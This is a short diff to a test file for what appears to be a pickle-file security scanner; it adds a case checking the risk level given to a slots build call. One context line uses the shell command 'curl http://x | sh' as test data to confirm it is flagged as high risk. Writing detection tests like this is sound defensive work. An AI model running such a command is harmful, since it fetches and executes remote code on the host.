@@ -82,6 +82,8 @@ test('what the source does not tell is judged as an unknown call', () => {
   expect(use('Opaque', 'reduce', tuple(text('curl http://x | sh')))).toBe('HIGH pickle-suspicious-arguments');
   expect(use('Slots', 'build', state([text('x'), int]))).toBe('trusted');
   expect(use('Slots', 'build', tuple({ type: 'none' }, state([text('x'), int])))).toBe(LOW);
+  const slots = tuple({ type: 'none' }, state([text('x'), text('y')]));
+  expect(use('Slots', 'build', slots)).toBe('MEDIUM pickle-suspicious-arguments');
 });
 
 test('an effect that the file decides over is a finding that names it', () => {
